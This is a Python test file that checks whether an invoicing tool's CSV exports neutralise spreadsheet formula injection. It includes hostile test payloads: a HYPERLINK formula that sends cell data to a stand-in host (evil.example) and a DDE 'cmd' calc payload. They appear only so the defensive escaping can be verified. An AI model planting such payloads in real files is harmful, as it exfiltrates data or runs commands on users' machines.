"""Issue 18 item 2: no cell of a CSV Boekbrug writes can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from test_deliver_library import CLIENT_A, UBL, World, make_world

from models import Document
from models.enums import DocumentStatus
from pipeline.core.csvsafe import neutralise, write_csv
from pipeline.core.db import unit_of_work
from pipeline.deliver.download import zip_for_period
from pipeline.deliver.export import export_folder
from pipeline.jobs.ingest import ingest_files

FORMULA = '=HYPERLINK("http://evil.example/steal?x="&A1,"klik")'


@pytest.mark.parametrize(
    "cell",
    [FORMULA, "+31 6 1234", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\tx", "\rx"],
)
def test_cells_starting_like_a_formula_are_written_as_text(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    row = next(
        csv.reader(io.StringIO(write_csv([{"a": cell}], ["a"]).decode()))
    )  # header
    assert row == ["a"]
    assert list(csv.reader(io.StringIO(write_csv([{"a": cell}], ["a"]).decode())))[
        1
    ] == ["'" + cell]


@pytest.mark.parametrize(
    "cell", ["-12.50", "1263.00", "Bakkerij Aerts", "", "2026-11-02", "a=b"]
)
def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
    assert neutralise(cell) == cell


def test_a_supplier_named_as_a_formula_reaches_no_csv_as_one(
    db_url: str, settings_for, tmp_path: Path
) -> None:
    world: World = make_world(db_url)
    settings = settings_for(db_url)
    hostile = tmp_path / "hostile.xml"
    hostile.write_bytes(
        UBL.read_bytes().replace(
            b"<cbc:Name>Voorbeeld Leverancier BV</cbc:Name>",
            b"<cbc:Name>"
            + FORMULA.replace("&", "&amp;").replace('"', "&quot;").encode()
            + b"</cbc:Name>",
        )
    )
    document_id = ingest_files(settings, CLIENT_A, [hostile]).document_ids[0]
    with unit_of_work(db_url) as session:
        document = session.get(Document, document_id)
        assert (
            document.supplier_name == FORMULA
            and document.status is DocumentStatus.RELEASED
        ), document.error
        data = zip_for_period(
            session,
            settings,
            world.accountant_a,
            world.client_a,
            date(2026, 11, 1),
            date(2026, 11, 30),
        )
    summary = zipfile.ZipFile(io.BytesIO(data)).read("summary.csv").decode()
    (row,) = csv.DictReader(io.StringIO(summary))
    assert row["supplier_name"] == "'" + FORMULA
    assert row["total_incl_vat"] == "1263.00"
    with unit_of_work(db_url) as session:
        result = export_folder(
            session,
            settings,
            world.office_a,
        )
    (folder,) = result.folders
    for name in ("summary.csv", "bookings.csv"):
        for line in csv.reader(io.StringIO((folder / name).read_text())):
            assert not any(
                cell.startswith(("=", "+", "@", "\t", "\r")) for cell in line
            ), line
    (row,) = csv.DictReader(io.StringIO((folder / "summary.csv").read_text()))
    assert row["supplier_name"] == "'" + FORMULA
